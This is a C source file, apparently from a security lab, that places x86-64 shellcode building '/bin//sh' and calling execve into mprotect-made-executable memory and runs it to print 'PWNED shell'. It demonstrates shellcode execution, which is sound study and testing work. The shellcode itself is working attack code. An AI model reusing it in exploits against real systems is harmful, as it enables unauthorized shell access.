/* Attack: shellcode that builds "/bin/sh" on the stack and starts a shell, in memory that mprotect made executable. */
#include "../lab.h"

extern const unsigned char shellcode[], shellcode_end[];

/* execve("/bin//sh", {"/bin//sh", "-c", "echo PWNED shell"}, NULL) */
__asm__(".section .rodata\n"
        "shellcode:\n"
        "  xor %edx, %edx\n"
        "  push %rdx\n"
        "  movabs $0x68732f2f6e69622f, %rax\n" /* "/bin//sh" */
        "  push %rax\n"
        "  mov %rsp, %rdi\n"
        "  push $0x632d\n" /* "-c" */
        "  mov %rsp, %rcx\n"
        "  push %rdx\n"
        "  lea command(%rip), %rax\n"
        "  push %rax\n"
        "  push %rcx\n"
        "  push %rdi\n"
        "  mov %rsp, %rsi\n"
        "  push $59\n" /* SYS_execve */
        "  pop %rax\n"
        "  syscall\n"
        "command:\n"
        "  .asciz \"echo PWNED shell\"\n"
        "shellcode_end:\n"
        ".text\n");

int main(void)
{
    watch_signals();
    unsigned char *memory = map_anonymous(PAGE, PROT_READ | PROT_WRITE);
    memcpy(memory, shellcode, (size_t)(shellcode_end - shellcode));
    check(mprotect(memory, PAGE, PROT_READ | PROT_EXEC) == 0, "mprotect");
    jump_to(memory);
    return 0;
}
